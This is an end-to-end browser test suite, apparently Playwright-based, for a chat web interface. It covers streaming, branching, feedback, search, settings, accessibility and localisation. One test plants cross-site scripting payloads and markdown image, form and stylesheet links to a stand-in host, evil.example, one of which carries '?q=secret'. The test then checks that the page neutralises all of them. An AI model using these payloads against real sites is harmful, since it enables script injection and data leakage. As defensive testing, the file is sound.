// What must hold in the page. Nothing here depends on what a model says, only on what the page does with it.

import assert from "node:assert/strict";
import { answers, ask, brief, composer, done, fresh, imported, lengthy, menu, row } from "./steps.mjs";

export const checks = {
  async "a first question from an example is answered, named and kept"({ server, open, axe }) {
    await server.api("PUT", "settings/defaults", brief);
    const page = await open();
    await page.goto(server.url);
    await page.getByRole("heading", { name: "What is on your mind?" }).waitFor();
    await axe(page, "empty page");
    await page.getByRole("button", { name: "Explain why the sky is blue in three sentences." }).click();
    await done(page);
    assert.match(page.url(), /\/c\/[\w-]+$/);
    assert.ok((await answers(page).first().locator(".prose").innerText()).length > 0);
    assert.match(await page.locator(".figures").innerText(), /token/);
    await row(page, "Explain why the sky is blue").waitFor();
    await axe(page, "conversation");
    await page.reload();
    await answers(page).first().waitFor();
    assert.equal(await answers(page).count(), 1);
  },

  async "stop keeps what was written"(context) {
    const { page } = await fresh(context, "Stopping", lengthy);
    await ask(page, "Write a long story about a lighthouse keeper. Make it as long as you can.");
    await page.waitForFunction(() => (document.querySelector("article.answer .prose")?.textContent ?? "").length > 10);
    await page.getByRole("button", { name: "Stop", exact: true }).click();
    await done(page);
    const text = await page.locator("article.answer .prose").innerText();
    assert.ok(text.length > 0);
    assert.match(await page.locator(".figures").innerText(), /Stopped/);
    await page.reload();
    assert.equal(await page.locator("article.answer .prose").innerText(), text);
  },

  async "an answer that streams goes on when the page reloads"(context) {
    const { page, id } = await fresh(context, "Reloading", lengthy);
    await ask(page, "Write a long story about two mountains. Make it as long as you can.");
    await page.waitForFunction(() => (document.querySelector("article.answer .prose")?.textContent ?? "").length > 40);
    const before = await page.locator("article.answer .prose").innerText();
    await page.reload();
    await page.waitForFunction((least) => (document.querySelector("article.answer .prose")?.textContent ?? "").length > least, before.length + 40);
    assert.equal(await page.locator("article.answer").getAttribute("aria-busy"), "true");
    const after = await page.locator("article.answer .prose").innerText();
    assert.ok(after.replaceAll(/\s+/g, " ").startsWith(before.replaceAll(/\s+/g, " ").slice(0, 30)));
    await context.server.api("POST", `conversations/${id}/stop`, {});
    await done(page);
  },

  async "editing and regenerating make branches that can be walked"(context) {
    const { page } = await fresh(context, "Branches");
    await ask(page, "Say one word.");
    await done(page);
    await page.locator("article.question").hover();
    await page.getByRole("button", { name: "Edit" }).click();
    await page.getByRole("textbox", { name: "Edit your message" }).fill("Say two words.");
    await page.getByRole("button", { name: "Send edited" }).click();
    await page.locator(".bubble", { hasText: "Say two words." }).waitFor();
    await done(page);
    await page.getByRole("group", { name: "Version 2 of 2" }).waitFor();
    await page.getByRole("button", { name: "Previous version" }).click();
    await page.locator(".bubble", { hasText: "Say one word." }).waitFor();
    await page.getByRole("button", { name: "Answer again" }).click();
    await page.locator("article.answer").getByRole("group", { name: "Version 2 of 2" }).waitFor();
    await done(page);
    await page.locator("article.answer").getByRole("button", { name: "Previous version" }).click();
    await page.locator("article.answer").getByRole("group", { name: "Version 1 of 2" }).waitFor();
    await page.reload();
    await page.locator("article.answer").getByRole("group", { name: "Version 1 of 2" }).waitFor();
  },

  async "feedback is stored with what it judges, and can be taken back"(context) {
    const { page, id } = await fresh(context, "Judging");
    await ask(page, "Name a colour.");
    await done(page);
    await page.getByRole("button", { name: "Bad answer" }).click();
    await page.getByText("Not correct").click();
    await page.getByRole("textbox", { name: /own words/ }).fill("It is not.");
    await context.axe(page, "reason dialog");
    const saved = page.waitForResponse((response) => response.request().postData()?.includes("It is not.") ?? false);
    await page.getByRole("button", { name: "Save reason" }).click();
    await saved;
    await page.locator("button[aria-label='Bad answer'][aria-pressed=true]").waitFor();
    const stored = (await context.server.api("GET", "feedback")).find((one) => one.conversation === id);
    assert.equal(stored.verdict, "down");
    assert.equal(stored.reason, "incorrect");
    assert.equal(stored.text, "It is not.");
    assert.deepEqual(stored.prompt, [{ role: "user", content: "Name a colour." }]);
    assert.ok(stored.answer.length > 0 && stored.model_hash && Number.isInteger(stored.sampling.seed));
    await page.getByRole("button", { name: "Bad answer" }).click();
    await page.locator("button[aria-label='Bad answer'][aria-pressed=false]").waitFor();
  },

  async "conversations are renamed, searched, exported and deleted"(context) {
    const { server } = context;
    const made = await imported(server, "Old name", [["user", "请介绍一下量子计算"], ["assistant", "A **superposition** of states."]]);
    const page = await context.open({ acceptDownloads: true });
    await page.goto(`${server.url}c/${made.id}`);
    await menu(page, "Old name", "Rename");
    await page.getByRole("textbox", { name: "Title" }).fill("New name");
    await page.getByRole("button", { name: "Save" }).click();
    await row(page, "New name").waitFor();
    const search = page.getByRole("textbox", { name: "Search conversations" });
    await search.fill("量子");
    await page.locator(".sidebar .row small", { hasText: "量子计算" }).waitFor();
    await search.fill("nothing like this");
    await page.getByText("Nothing found").waitFor();
    await page.getByRole("button", { name: "Clear search" }).click();
    const download = page.waitForEvent("download");
    await menu(page, "New name", "Export as Markdown");
    assert.equal((await download).suggestedFilename(), "New name.md");
    await menu(page, "New name", "Delete");
    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
    await page.getByRole("heading", { name: "What is on your mind?" }).waitFor();
    assert.equal((await server.api("GET", "search?q=" + encodeURIComponent("New name"))).length, 0);
  },

  async "settings and the system prompt are kept, and refused when they do not fit"(context) {
    const { page, id } = await fresh(context, "Settings");
    await page.locator(".head").getByRole("button", { name: "Settings" }).click();
    await page.getByRole("textbox", { name: "System prompt" }).fill("You are a poet.");
    await page.getByRole("slider", { name: "Temperature" }).fill("1.2");
    await page.getByRole("spinbutton", { name: "Seed" }).fill("42");
    await context.axe(page, "settings");
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByText("Settings saved.").waitFor();
    const { conversation } = await context.server.api("GET", `conversations/${id}`);
    assert.equal(conversation.system_prompt, "You are a poet.");
    assert.equal(conversation.sampling.seed, 42);
    assert.equal(conversation.sampling.temperature, 1.2);
    await assert.rejects(context.server.api("PATCH", `conversations/${id}`, { sampling: { temperature: 9 } }), /temperature/);
  },

  async "a hostile answer does nothing"(context) {
    const attacks = [
      "<script>window.hit=1</script><img src=x onerror=window.hit=1><svg onload=window.hit=1>",
      "[click](javascript:window.hit=1) [data](data:text/html,<script>1</script>)",
      "![pixel](http://evil.example/?q=secret)",
      "<iframe srcdoc='<script>parent.hit=1</script>'></iframe><style>@import 'http://evil.example/x.css'</style>",
      "$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{http://evil.example/x.png}$",
      "```html\n<script>window.hit=1</script>\n```",
      "<form action='http://evil.example'><input name=x></form><base href='http://evil.example/'>",
      "| <b onmouseover=window.hit=1>x</b> |\n| - |\n| ![y](http://evil.example/y.png) |",
    ];
    const title = "<img src=x onerror=window.hit=1>";
    const made = await imported(context.server, title, attacks.flatMap((text) => [["user", text], ["assistant", text]]));
    const page = await context.open();
    await page.goto(`${context.server.url}c/${made.id}`);
    await answers(page).nth(attacks.length - 1).waitFor();
    await page.waitForTimeout(500);
    assert.equal(await page.evaluate(() => window.hit), undefined);
    assert.equal(await page.locator("article :is(script, iframe, img, object, form, style, base)").count(), 0);
    assert.equal(await page.locator("article a[href^='javascript'], article a[href^='data']").count(), 0);
    await page.getByText("Image not loaded: pixel").waitFor();
    const policy = (await context.server.api("GET", "settings"), await fetch(context.server.url)).headers.get("content-security-policy");
    assert.match(policy, /script-src 'self'(;|$)/);
    assert.match(policy, /default-src 'none'/);
  },

  async "Markdown, tables, code and formulas are set, in light and dark, and axe finds nothing"(context) {
    const text = "# Title\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done\n- item\n\n```python\ndef f(x):\n    return 'y'  # why\n```\n\nInline $x^2$ and\n\n$$\\sum_{i=1}^n i$$\n\n[link](https://example.org) ~~gone~~";
    const made = await imported(context.server, "Rich", [["user", "Show all."], ["assistant", text]]);
    for (const colorScheme of ["light", "dark"]) {
      const page = await context.open({ colorScheme });
      await page.goto(`${context.server.url}c/${made.id}`);
      await page.locator(".code code span[style]").first().waitFor();
      assert.ok(await page.locator(".katex-display").count());
      assert.equal(await page.locator("td").count(), 2);
      await context.axe(page, `rich answer, ${colorScheme}`);
      if (colorScheme === "light") {
        assert.deepEqual(page.complaints, []);
        await page.context().close();
      }
    }
  },

  async "a phone has a drawer and no sideways scrolling"(context) {
    const { page } = await fresh(context, "On a phone", brief, { viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true });
    assert.equal(await page.locator(".sidebar").count(), 0);
    // A phone's keyboard has no Shift+Enter: Enter makes a new line there, and the button sends.
    await composer(page).fill("Say hello.");
    await composer(page).press("Enter");
    assert.equal(await composer(page).inputValue(), "Say hello.\n");
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await done(page);
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
    await page.getByRole("button", { name: "Show conversations" }).click();
    await page.locator(".sidebar").waitFor();
    await context.axe(page, "drawer");
    await row(page, "On a phone").getByRole("link").click();
    await page.locator(".sidebar").waitFor({ state: "detached" });
    await context.axe(page, "phone");
  },

  async "everything can be done with the keyboard alone"(context) {
    const { page, id } = await fresh(context, "By keyboard");
    await page.locator("#composer").focus();
    await page.keyboard.type("Say yes.");
    await page.keyboard.press("Enter");
    await done(page);
    await page.keyboard.press("Escape");
    await page.evaluate(() => document.activeElement?.blur());
    await page.keyboard.press("Shift+Slash");
    await page.getByRole("dialog", { name: "Keyboard shortcuts" }).waitFor();
    await context.axe(page, "shortcuts");
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    await page.keyboard.press("Control+k");
    await page.waitForFunction(() => document.activeElement?.id === "search");
    await page.keyboard.type("By keyboard");
    // The list that was there before would go from under the keys.
    await page.waitForFunction(() => document.querySelectorAll(".sidebar .row").length === 1);
    // From the search field on: clear, the conversation, its menu.
    for (let n = 0; n < 10; n++) {
      await page.keyboard.press("Tab");
      if (await page.evaluate(() => document.activeElement?.getAttribute("aria-label")?.startsWith("Actions for") ?? false)) break;
    }
    await page.keyboard.press("Enter");
    await page.getByRole("menuitem", { name: "Rename" }).waitFor();
    await page.keyboard.press("Enter");
    await page.getByRole("textbox", { name: "Title" }).waitFor();
    await page.keyboard.press("Control+a");
    await page.keyboard.type("Renamed by keyboard");
    await page.keyboard.press("Enter");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    await page.waitForFunction(async (address) => (await (await fetch(address)).json()).conversation.title === "Renamed by keyboard", `${context.server.url}api/conversations/${id}`);
    await page.keyboard.press("Control+Shift+O");
    await page.getByRole("heading", { name: "What is on your mind?" }).waitFor();
    assert.equal(await page.evaluate(() => document.activeElement?.id), "composer");
  },

  async "Chinese is complete, and the choice is kept"(context) {
    const page = await context.open();
    await page.goto(context.server.url);
    await page.locator(".head").getByRole("button", { name: "Settings" }).click();
    await page.getByRole("combobox", { name: "Language" }).selectOption("zh-CN");
    await page.getByRole("heading", { name: "设置" }).waitFor();
    await page.getByRole("combobox", { name: "主题" }).selectOption("dark");
    await page.getByRole("button", { name: "取消" }).click();
    await page.reload();
    await page.getByRole("heading", { name: "想聊点什么？" }).waitFor();
    assert.equal(await page.evaluate(() => document.documentElement.lang), "zh-CN");
    assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
    await context.axe(page, "Chinese, dark");
  },

  async "turns that do not fit are left out visibly, and a question that cannot fit is refused in a sentence"(context) {
    const { server } = context;
    const { context: size } = (await server.api("GET", "models")).find((model) => model.chat);
    const word = "harbour ".repeat(Math.ceil(size / 4));
    const turns = [1, 2, 3, 4, 5].flatMap((n) => [["user", `Part ${n}: ${word}`], ["assistant", "Noted."]]);
    const made = await imported(server, "Very long", turns);
    await server.api("PATCH", `conversations/${made.id}`, brief);
    const page = await context.open();
    await page.goto(`${server.url}c/${made.id}`);
    await answers(page).nth(4).waitFor();
    await ask(page, "What was the last part?");
    await page.getByText(/earlier turns? above this line (is|are) not sent to the model/).waitFor({ timeout: 180_000 });
    await server.api("POST", `conversations/${made.id}/stop`, {});
    await done(page, 5);
    await composer(page).fill("harbour ".repeat(size * 3));
    await page.getByRole("button", { name: "Send", exact: true }).click();
    await page.getByRole("alert").filter({ hasText: /context/ }).waitFor();
    assert.ok((await composer(page).inputValue()).startsWith("harbour"), "the text is kept in the field");
  },

  async "when the server goes away the page says so, and comes back"(context) {
    const { page } = await fresh(context, "Going away", lengthy);
    await ask(page, "Write a long story about a bridge. Make it as long as you can.");
    await page.waitForFunction(() => (document.querySelector("article.answer .prose")?.textContent ?? "").length > 60);
    await page.waitForTimeout(600);
    await context.server.kill();
    await page.getByRole("alert").filter({ hasText: "The server cannot be reached" }).waitFor();
    await context.axe(page, "server gone");
    await context.server.start();
    await page.getByRole("button", { name: "Try now" }).click({ timeout: 1000 }).catch(() => {});
    await page.getByRole("alert").filter({ hasText: "The server cannot be reached" }).waitFor({ state: "detached" });
    await done(page);
    assert.match(await page.locator(".figures").innerText(), /Stopped/);
    assert.ok((await page.locator("article.answer .prose").innerText()).length > 20, "what was saved is there");
  },
};
